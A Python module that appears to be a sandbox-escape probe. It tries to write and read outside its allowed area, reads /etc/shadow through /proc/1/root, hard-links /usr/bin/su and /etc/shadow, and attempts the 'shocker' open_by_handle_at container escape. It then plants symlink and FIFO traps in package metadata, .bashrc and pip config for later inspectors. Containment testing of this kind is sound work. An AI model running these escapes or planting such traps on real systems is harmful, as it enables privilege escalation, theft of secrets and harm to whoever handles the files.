"""Files outside of what may be written: by their paths, by links, by the folders of other processes, and by handles."""

import ctypes
import glob
import os

from burglar.tools import OUTSIDE, outcome, raw, read, tell, write

HOME = os.path.expanduser("~")
SITE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
NEW = os.O_WRONLY | os.O_CREAT


def shocker(flags):
    """Opens the root of a file system by the number that its root folder always has, through a descriptor of any file on it."""
    any_file = os.open("/etc/hosts", os.O_RDONLY)
    handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
    try:
        os.close(raw("open_by_handle_at", any_file, ctypes.create_string_buffer(handle), flags))
    finally:
        os.close(any_file)


def follow(name, target, flags):
    """A symbolic link at a place of ours to a place of theirs, and through it."""
    os.symlink(target, name)
    os.close(os.open(name, flags, 0o600))


def replace(name, target):
    """What was there makes room for a link, which somebody with more rights may follow later."""
    if os.path.lexists(name):
        os.rename(name, name + ".moved")
    os.symlink(target, name)


def exchange_home():
    os.rename(HOME, HOME + ".moved")


facts = {
    **{"write " + name: write(path, flags=NEW) for name, path in OUTSIDE["writes"].items()},
    **{"read " + name: read(path) for name, path in OUTSIDE["reads"].items()},
    **{"served %d" % number: write(path) for number, path in enumerate(sorted(glob.glob("/srv/*/*"))[:20])},
    **{"new in " + path: write(path + "/escape", flags=NEW) for path in ("/srv/packages", "/srv/runner", "/opt/uv", "/run/session", "/record")},
    "first's root": read("/proc/1/root/etc/shadow"),
    "first's folder": read("/proc/1/cwd/record/plan.json"),
    "parent's root": outcome(os.listdir, "/proc/%d/root/record" % os.getppid()),
    "link to a file": outcome(os.link, "/etc/passwd", HOME + "/passwd"),
    "link to a program": outcome(os.link, "/usr/bin/su", "/tmp/su"),
    "link to a secret": outcome(os.link, "/etc/shadow", HOME + "/shadow"),
    "follow to a new file": outcome(follow, HOME + "/record", "/record/escape", NEW),
    "follow to the host": outcome(follow, HOME + "/canary", OUTSIDE["writes"]["canary"], os.O_WRONLY),
    "rename home": outcome(exchange_home),
    "handle": outcome(shocker, os.O_RDONLY),
}
tell("files", facts)

# Left for whoever looks at the tree afterwards: none may be followed, and none may stop anybody.
for path, target in {
    SITE + "/burglar-1.0.dist-info/METADATA": "/etc/shadow",
    SITE + "/burglar-1.0.dist-info/entry_points.txt": "/proc/kmsg",
    HOME + "/.bashrc": OUTSIDE["writes"]["canary"],
    HOME + "/.config/pip": "/record",
    HOME + "/loop": HOME + "/loop",
    HOME + "/root": "/",
    "/tmp/zero": "/dev/zero",
}.items():
    outcome(replace, path, target)
outcome(os.mkfifo, SITE + "/burglar-1.0.dist-info/direct_url.json.moved")
outcome(os.mkfifo, HOME + "/pipe")
